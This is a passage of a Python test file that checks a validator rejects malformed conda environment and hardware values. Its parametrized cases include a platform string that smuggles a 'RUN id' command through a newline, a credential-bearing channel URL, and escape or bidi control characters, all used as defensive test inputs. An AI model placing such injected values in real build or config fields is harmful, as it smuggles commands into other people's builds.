        depends=("libzlib >=1.2.13",),
    )
    conda = CondaEnvironment(
        packages=(pkg,),
        channels=("https://conda.anaconda.org/conda-forge",),
        platform="linux-64",
        manager="micromamba",
    )
    conda = replace(conda, **{k: v for k, v in changes.items() if k != "package"})
    if "package" in changes:
        conda = replace(conda, packages=(replace(pkg, **changes["package"]),))
    return replace(make_env(), conda=conda)


def test_a_plain_conda_section_passes() -> None:
    check.validate_environment(_conda_env())


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        # each of these reached conda-lock's writer or the lock unchecked (an internal error)
        ({"platform": "\ud800"}, "conda.platform"),
        ({"platform": "linux-64\nRUN id"}, "conda.platform"),
        ({"channels": ("\ud800",)}, "conda.channels[0]"),
        ({"channels": ("https://u:pw@c.example/ch",)}, "conda.channels[0]"),
        ({"manager": "mamba\x1b[2J"}, "conda.manager"),
        ({"requested_specs": ("numpy\u202e",)}, "conda.requested_specs[0]"),
        ({"package": {"depends": ("libzlib\ud800",)}}, "conda.packages[python].depends[0]"),
        ({"package": {"name": "python\n"}}, "conda package.name"),
        ({"package": {"files_sha256": "xyz"}}, "conda.packages[python].files_sha256"),
        (
            {"package": {"channel": "https://conda.anaconda.org/conda-forge\u0000"}},
            "conda package 'python'.channel",
        ),
    ],
)
def test_conda_values_are_checked_when_the_record_loads(changes: dict, field: str) -> None:
    with refuses(ValidationError, field=field):
        check.validate_environment(_conda_env(**changes))


def test_a_conda_package_listed_twice_is_refused() -> None:
    env = _conda_env()
    assert env.conda is not None
    twice = replace(env.conda, packages=env.conda.packages * 2)
    with refuses(ValidationError, field="conda.packages[python]", names="listed twice"):
        check.validate_environment(replace(env, conda=twice))


@pytest.mark.parametrize(
    ("hardware", "field"),
    [
        (Hardware(memory_bytes=10**400), "hardware.memory_bytes"),
        (Hardware(memory_bytes=-1), "hardware.memory_bytes"),
        (Hardware(cpu_cores=10**30), "hardware.cpu_cores"),
        (Hardware(gpus=(GPU("A100", memory_mib=10**30),)), "hardware.gpus[0].memory_mib"),
    ],
)
def test_sizes_no_machine_has_are_refused(hardware: Any, field: str) -> None:
    """10**400 bytes of memory broke `diff` and `pr --base` (OverflowError in the display)."""
    with refuses(ValidationError, field=field):
        check.validate_environment(replace(make_env(), hardware=hardware))
